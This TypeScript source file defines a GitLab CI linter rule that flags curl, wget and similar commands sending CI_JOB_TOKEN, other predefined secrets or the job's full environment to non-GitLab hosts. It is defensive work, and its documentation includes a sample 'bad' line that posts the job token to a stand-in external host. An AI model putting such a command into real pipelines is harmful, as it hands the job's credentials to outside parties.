import type { Job, JobCommand } from '../../gitlab-ci/model.ts'
import { defineRule, type Report, type RuleDocs } from '../rule.ts'
import { distinct } from '../shared/distinct.ts'
import { isPredefinedSecret } from './shared/secret-words.ts'

export const docs: RuleDocs = {
  why: 'CI_JOB_TOKEN, the password of the registry and the other credentials that GitLab hands to a job are meant for GitLab. A script that sends them, or the whole environment, to another host gives that host the rights of the job: to pull private images, to read packages, to call the API. That is what stolen pipelines do, and what a line copied from a forum may do unseen. Calls to $CI_API_V4_URL and $CI_SERVER_URL are what the tokens are for.',
  bad: 'notify:\n  script:\n    - curl --data "token=$CI_JOB_TOKEN" https://hooks.example.net/ferry\n',
  good: 'notify:\n  script:\n    - \'curl --header "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects/$CI_PROJECT_ID/packages"\'\n    - curl --data "status=$CI_JOB_STATUS" https://hooks.example.net/ferry\n',
  sources: [
    'https://docs.gitlab.com/ci/jobs/ci_job_token/',
    'https://docs.gitlab.com/ci/pipelines/pipeline_security/',
  ],
  equivalents: { checkov: ['CKV_GITLABCI_1'] },
}

type MessageId = 'credential' | 'environment'

/** Where the host depends on a variable of the project nothing is said: it may be GitLab. */
export default defineRule({
  meta: {
    name: 'ci-suspicious-curl',
    severity: 'warning',
    category: 'security',
    files: 'gitlab-ci',
    title: "Keep GitLab's credentials away from other hosts",
    messages: {
      credential:
        '{{program}} sends ${{variable}} to {{host}}, which is not GitLab: that host can use the rights of this job.',
      environment: '{{program}} sends the environment of the job, with all of its secrets, to {{host}}.',
    },
  },
  *check({ pipeline }) {
    const jobs = [...pipeline.jobs, ...pipeline.hidden]
    yield* distinct(jobs.flatMap((job) => job.commands.flatMap((command) => reportOf(command, job) ?? [])))
  },
})

const SENDERS = new Set(['curl', 'wget', 'http', 'https', 'xh'])

function reportOf(command: JobCommand, job: Job): Report<MessageId> | null {
  const { program, words, range } = command
  if (program === null || !SENDERS.has(program)) return null
  const host = foreignHost(words.map(({ shown }) => shown))
  if (host === null) return null
  const variable = words.flatMap(({ variables }) => variables).find(isPredefinedSecret)
  if (variable !== undefined)
    return { messageId: 'credential', range, data: { program, variable, host }, confidence: 'likely' }
  if (!sendsEnvironment(command, job)) return null
  return { messageId: 'environment', range, data: { program, host }, confidence: 'likely' }
}

const ADDRESS = /^(?:--url=)?https?:\/\/(?:[^\s/@]*@)?([^\s/:?#]+)/i

/** The host that is written out, unless it is a GitLab. Null when there is none or it is not known. */
function foreignHost(words: readonly string[]): string | null {
  const hosts = words.flatMap((word) => ADDRESS.exec(word)?.[1] ?? [])
  const host = hosts[0]?.toLowerCase()
  if (host === undefined || host.includes('$') || /(?:^|[.-])gitlab(?:[.-]|$)/.test(host)) return null
  return /^(?:localhost|127\.|docker$|[\w-]+$)/.test(host) ? null : host
}

/** `env | curl …`, `curl -d "$(env)"`. */
function sendsEnvironment({ index, pipe }: JobCommand, { commands }: Job): boolean {
  for (let at = pipe.from, left = 8; at !== null && left > 0; left -= 1) {
    const before: JobCommand | undefined = commands[at]
    if (before === undefined) return false
    if (listsEnvironment(before)) return true
    at = before.pipe.from
  }
  return commands.some((each) => each.usedBy === index && listsEnvironment(each))
}

function listsEnvironment({ program, words }: JobCommand): boolean {
  if (program === 'env' || program === 'printenv' || program === 'set') return words.length === 1
  return program === 'export' && words[1]?.shown === '-p'
}
